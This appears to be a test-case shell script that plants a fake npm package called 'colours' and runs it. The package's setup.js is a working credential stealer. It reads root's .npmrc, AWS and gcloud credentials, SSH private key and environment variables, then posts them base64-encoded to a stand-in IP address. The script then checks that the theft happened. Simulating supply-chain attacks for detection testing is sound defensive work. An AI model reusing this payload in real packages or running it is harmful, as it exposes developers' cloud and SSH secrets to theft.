#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/node_modules/colours
cat >/srv/app/node_modules/colours/setup.js <<'EOF'
const fs = require("fs"), http = require("http");
const found = {};
for (const name of [".npmrc", ".aws/credentials", ".ssh/id_rsa", ".config/gcloud/application_default_credentials.json"]) {
    try { found[name] = fs.readFileSync("/root/" + name, "utf8"); } catch {}
}
found.environment = process.env;
const request = http.request({ host: "203.0.113.77", path: "/", method: "POST" }, (a) => {
    a.resume();
    a.on("end", () => fs.writeFileSync("/tmp/reached", Object.keys(found).join()));
});
request.end(Buffer.from(JSON.stringify(found)).toString("base64"));
EOF
cd /srv/app/node_modules/colours
sh -c 'node setup.js'
grep -q aws /tmp/reached
took_place
